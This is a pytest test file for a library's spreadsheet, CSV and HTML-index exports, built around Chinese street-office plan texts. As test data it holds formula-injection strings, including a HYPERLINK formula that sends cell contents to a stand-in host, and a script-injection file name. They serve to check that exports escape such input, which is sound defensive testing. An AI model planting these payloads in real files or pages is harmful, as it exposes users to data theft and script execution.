"""Exports: no formula from the data, a failed export leaves the previous one, clear errors."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import add_source, document_entry, record_table

from streetlib.build import build
from streetlib.cli import main
from streetlib.export import ExportError, export_csv, export_xlsx, write_report_index

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
    "+1+1 加强社区治理,推动居民自治和共治,完善议事协商机制。",
    "-2+3 推进老旧小区改造,完成加装电梯和雨污分流工程。",
    "@SUM(A1:A9) 完善为老服务,新建长者照护之家一家。",
]
# Lines a spreadsheet would run as formulas, as paragraphs of a raw document.
HOSTILE_TEXT = "新华路街道2024年工作要点\n一、总体要求\n" + "\n".join(HOSTILE) + "\n"


@pytest.fixture
def hostile_root(data_root: Path) -> Path:
    n = HOSTILE_TEXT.count("\n")
    entry = document_entry("hostile_2024", "hostile_2024.txt", (1, n), [(1, n, "plan")])
    add_source(data_root, "hostile_2024.txt", [entry], text=HOSTILE_TEXT)
    build(data_root, progress=False)
    return data_root


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_stores_formula_like_text_as_text(hostile_root: Path, tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    export_xlsx(path, root=hostile_root)
    assert "<f>" not in _sheet_xml(path), "no cell of the workbook may be a formula"
    sheet = openpyxl.load_workbook(path, read_only=True)["paragraphs"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    texts = {row[header.index("text")].value: row[header.index("text")].data_type for row in sheet.iter_rows(min_row=2)}
    for line in HOSTILE:
        assert texts.get(line) == "s", f"{line!r} must be a text cell, unchanged"


def test_csv_escapes_formula_like_text_but_not_numbers(hostile_root: Path, tmp_path: Path) -> None:
    export_csv(tmp_path / "csv", root=hostile_root)
    frame = pd.read_csv(tmp_path / "csv" / "paragraphs.csv", dtype=str, encoding="utf-8-sig")
    texts = set(frame["text"])
    for line in HOSTILE:
        assert "'" + line in texts and line not in texts
    tables = pd.read_csv(tmp_path / "csv" / "report_tables.csv", dtype=str, encoding="utf-8-sig")
    assert not tables["value_raw"].dropna().str.startswith("'").any(), "plain cells are not escaped"


def test_a_failed_export_leaves_the_previous_one(tmp_path: Path, data_root: Path) -> None:
    path = tmp_path / "out.xlsx"
    export_xlsx(path)
    before = path.read_bytes()
    with pytest.raises(Exception, match="has not been built"):
        export_xlsx(path, root=data_root)  # unbuilt root: the real error, raised before anything is written
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["out.xlsx", "data"])


def test_a_full_disk_during_export_names_the_file_and_keeps_the_previous(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "out.xlsx"
    export_xlsx(path)
    before = path.read_bytes()

    def full_disk(self, filename) -> None:
        Path(filename).write_bytes(b"PK\x03\x04 partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", full_disk)
    with pytest.raises(ExportError, match=r"out\.xlsx: could not be written \(No space left on device\)"):
        export_xlsx(path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"], "no temporary file is left behind"


def test_a_failed_csv_export_leaves_the_previous_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "csv"
    export_csv(folder)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    calls = []

    def fails_on_third(self, path, **kwargs) -> None:
        calls.append(path)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        Path(path).write_text("changed", encoding="utf-8")

    monkeypatch.setattr(pd.DataFrame, "to_csv", fails_on_third)
    with pytest.raises(ExportError, match="csv: could not be written"):
        export_csv(folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    assert [p.name for p in tmp_path.iterdir()] == ["csv"]


def test_control_characters_are_removed_from_the_workbook_with_a_note(hostile_root: Path, tmp_path: Path) -> None:
    path = hostile_root / "processed" / "paragraphs.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame.loc[0, "text"] = "社区\x01治理\x0b"
    frame.to_csv(path, index=False, lineterminator="\n")
    record_table(hostile_root, "paragraphs")
    with pytest.warns(UserWarning, match=r"paragraphs: removed 2 control character"):
        export_xlsx(tmp_path / "out.xlsx", root=hostile_root)
    book = openpyxl.load_workbook(tmp_path / "out.xlsx", read_only=True)
    assert len(book.sheetnames) >= 16 and "社区治理" in {r[4] for r in book["paragraphs"].iter_rows(values_only=True)}


def test_export_onto_a_folder_or_into_a_missing_folder_is_a_clear_error(tmp_path: Path, capsys) -> None:
    assert main(["export", "--xlsx", str(tmp_path)]) == 1
    assert "is a folder. Give a file name ending in .xlsx" in capsys.readouterr().err
    assert main(["export", "--xlsx", str(tmp_path / "nowhere" / "out.xlsx")]) == 1
    assert "does not exist. Create the folder" in capsys.readouterr().err
    (tmp_path / "file").write_text("x")
    assert main(["export", "--csv", str(tmp_path / "file")]) == 1
    assert "is a file, not a folder" in capsys.readouterr().err


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write anywhere")
def test_a_read_only_target_is_a_clear_error(tmp_path: Path, capsys) -> None:
    tmp_path.chmod(0o500)
    try:
        assert main(["export", "--xlsx", str(tmp_path / "out.xlsx")]) == 1
        assert "cannot be written" in capsys.readouterr().err
    finally:
        tmp_path.chmod(0o700)


def test_report_index_escapes_file_names_and_refuses_a_missing_folder(tmp_path: Path, capsys) -> None:
    (tmp_path / '00_a"><script>x<.html').write_text("<h1>标题 &amp; <i>x</i></h1>", encoding="utf-8")
    page = write_report_index(tmp_path).read_text(encoding="utf-8")
    assert "<script>" not in page
    assert 'href="00_a%22%3E%3Cscript%3Ex%3C.html"' in page and ">标题 &amp; x</a>" in page
    assert main(["index-reports", str(tmp_path / "missing")]) == 1
    assert "is not a folder of reports. Run `make reports`" in capsys.readouterr().err
